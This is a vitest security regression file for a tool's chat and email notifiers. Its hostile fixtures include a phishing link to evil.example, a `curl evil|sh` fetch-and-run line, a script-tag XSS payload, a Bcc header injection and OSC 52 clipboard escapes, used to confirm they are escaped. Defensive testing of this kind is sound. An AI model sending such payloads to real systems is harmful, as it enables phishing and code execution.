// Attack: text from inside a container (a package name, stderr, a log line, the container's
// name) is carried into chat and mail messages as markup. Each test names what today's code
// (before this change) let through.
import type { Notification } from '@unrot/sdk';
import { describe, expect, it } from 'vitest';
import { composeNotification } from '../../packages/engine/src/notify/compose-message.js';
import { ct, makeReport } from '../../packages/engine/test/notify/report-fixtures.js';
import { renderHtml, renderSubject } from '../../plugins/notifier-email/src/render.js';
import { BUILDERS } from '../../plugins/notifier-webhook/src/formats/index.js';
import type { WebhookOptions } from '../../plugins/notifier-webhook/src/options.js';
import { parseTelegramHtml } from '../../plugins/notifier-webhook/test/helpers/validators.js';
import { FORGED, OSC52, RAW_CONTROL } from './hostile.js';

const LINK = '[reset your password](https://evil.example/login)';
const HOSTILE_TEXT = [
  `CT 101 web: step apply (apt), E_EXEC_FAILED: dpkg: ${LINK} @everyone @here <@&123456> <@987> <#42>`,
  '**URGENT** _run_ `curl evil|sh` ~~x~~ ||spoiler|| # header',
  '- list item',
  '<!channel> <https://evil.example|click here> <script>alert(1)</script> & done',
].join('\n');

const message = (over: Partial<Notification> = {}): Notification => ({
  severity: 'failure',
  title: 'FAILURE: 1 failed on pve1',
  text: HOSTILE_TEXT,
  runId: '20261126T021500Z-3fa9c2',
  report: { summary: { containers: 1, failed: 1 } },
  ...over,
});

function payload(format: WebhookOptions['format'], m: Notification): Record<string, unknown> {
  const options = { format, url: 'https://hooks.example/x', bot_token: '1:abc', chat_id: 1 } as WebhookOptions;
  return JSON.parse(BUILDERS[format](options, m).prepare().body) as Record<string, unknown>;
}

describe('notification markup from container text', () => {
  // Today: the composed text carried ESC/OSC 52 raw (into `ntfy subscribe` terminals and mail
  // clients) and a newline in a version started a line of its own.
  it('the composed message escapes control characters and cannot gain forged lines', async () => {
    const c = ct(101, 'failed', {
      name: `web${OSC52}`,
      error: { step: 'apply', runner: 'apt', code: 'E_EXEC_FAILED', message: `dpkg: ${FORGED}` },
    });
    const m = await composeNotification(makeReport([c]), { severity: 'failure', reason: 'CT 101 failed' });
    expect(m.text).not.toMatch(RAW_CONTROL);
    expect(m.title).not.toMatch(RAW_CONTROL);
    expect(m.text).toContain('web\\x1b]52;');
    expect(m.text.split('\n').some((line) => line.startsWith('CT 999'))).toBe(false);
  });

  // Today: the embed description was the raw text: a masked phishing link, @everyone and role
  // mentions rendered (allowed_mentions only stopped the ping), and markdown styled it.
  it('discord: markdown, masked links and mentions are escaped; allowed_mentions parses nothing', () => {
    const body = payload('discord', message()) as { embeds: Array<{ description: string }>; allowed_mentions: unknown };
    const d = body.embeds[0]?.description ?? '';
    expect(body.allowed_mentions).toEqual({ parse: [] });
    expect(d).not.toContain(LINK);
    expect(d).toContain('\\[reset your password\\]\\(https\\://evil.example/login\\)');
    expect(d).not.toMatch(/(^|[^\\])@(everyone|here)/);
    expect(d).not.toMatch(/(^|[^\\])<[@#]/);
    expect(d).not.toMatch(/(^|[^\\])\*\*/);
    expect(d).toContain('\\- list item');
  });

  // Today: the text sat in an Adaptive Card TextBlock, which renders markdown: the link was live.
  it('teams: report text only in TextRuns (no markdown); no TextBlock carries it', () => {
    const body = payload('teams', message()) as { attachments: Array<{ content: { body: Array<Record<string, unknown>> } }> };
    const elements = body.attachments[0]?.content.body ?? [];
    const textBlocks = elements.filter((e) => e['type'] === 'TextBlock').map((e) => String(e['text']));
    expect(textBlocks.some((t) => t.includes('evil.example'))).toBe(false);
    const runs = elements
      .filter((e) => e['type'] === 'RichTextBlock')
      .flatMap((e) => e['inlines'] as Array<{ type: string; text: string }>);
    expect(runs.every((r) => r.type === 'TextRun')).toBe(true);
    expect(runs.map((r) => r.text)).toContain(HOSTILE_TEXT.split('\n')[0]);
  });

  // Today: & < > were escaped, but the mrkdwn objects were not `verbatim`, so Slack itself
  // linkified bare URLs and #channels and parsed @channel-style mentions in report text.
  it('slack: &, <, > escaped (no <!channel>, no <url|label>), and mrkdwn marked verbatim', () => {
    const body = payload('slack', message()) as {
      text: string;
      blocks: Array<{ type: string; text?: { type: string; text: string; verbatim?: boolean }; elements?: unknown[] }>;
    };
    const section = body.blocks.find((b) => b.type === 'section')?.text;
    expect(section?.text).not.toContain('<!channel>');
    expect(section?.text).not.toContain('<https://');
    expect(section?.text).toContain('&lt;!channel&gt;');
    expect(section?.verbatim).toBe(true);
    expect(body.text).not.toMatch(/<[!@#h]/);
    const context = (body.blocks.find((b) => b.type === 'context')?.elements ?? []) as Array<{ verbatim?: boolean }>;
    expect(context.length).toBeGreaterThan(0);
    for (const el of context) expect(el.verbatim).toBe(true);
  });

  // Regression guard (today's code already escaped this): HTML parse mode with & < > as entities.
  it('telegram: the hostile text parses back to plain text, no tag of its own', () => {
    const body = payload('telegram', message()) as { text: string; parse_mode: string };
    expect(body.parse_mode).toBe('HTML');
    const parsed = parseTelegramHtml(body.text);
    expect(parsed).toEqual({ text: expect.stringContaining('<script>alert(1)</script>') });
    expect(body.text).not.toContain('<script>');
    expect(body.text).not.toContain('<a ');
  });

  // Today: only CR and LF were taken out of the subject; NEL, U+2028, ESC and bidi overrides went
  // into the header. The HTML part was already escaped (kept as a guard).
  it('email: one-line subject without control characters; HTML part escaped', () => {
    const subject = renderSubject(message({ title: `1 failed\r\nBcc: victim@example.org\u0085X\u2028Y${OSC52}\u202e` }), '[unrot]');
    expect(subject).not.toMatch(/[\r\n\u0085\u2028]/);
    expect(subject).not.toMatch(RAW_CONTROL);
    expect(subject).toMatch(/^\[unrot\] FAILURE: 1 failed Bcc: victim@example.org X Y ]52;c;Y3VybCBldmlsfHNo$/);
    const html = renderHtml(message());
    expect(html).not.toContain('<script>');
    expect(html).toContain('&#60;script&#62;');
  });

  it('generic webhook: JSON carries the text as data, exactly', () => {
    const body = payload('generic', message()) as { text: string };
    expect(body.text).toBe(HOSTILE_TEXT);
  });
});
